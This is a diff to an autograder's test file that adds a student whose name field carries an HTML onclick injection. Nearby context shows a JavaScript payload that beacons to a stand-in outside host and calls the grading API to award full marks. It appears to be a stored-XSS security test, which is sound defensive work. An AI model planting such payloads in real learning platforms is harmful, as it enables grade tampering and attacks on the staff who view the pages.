@@ -19,6 +19,7 @@ from autograder.receipts import write_whole
 from autograder.recording import Recorder
 
 STUDENT = "o'neil (@x), + y"
+NAMED = "<b>Ann</b> \" onclick='window.hacked=1'"
 # what an attacker wants: a mark to be seen, and full marks for everybody who is graded on this page
 RUN = (
     "window.hacked=1;document.title=`hacked`;fetch(`ELSEWHERE/ran`);fetch(`/formgrader/api/grades?submission_id=`+"
@@ -76,6 +77,9 @@ def hostile_class(root: pathlib.Path, elsewhere: str):
     recorder = Recorder(classroom, lesson)
     recorder.take(receipt)
     assert recorder.failures == {}
+    with recorder.gradebook() as gradebook:
+        # people choose their names on a learning platform
+        gradebook.update_or_create_student(STUDENT, first_name=NAMED, last_name=_aimed(PROSE["script"], elsewhere))
     return lesson, recorder
 
 
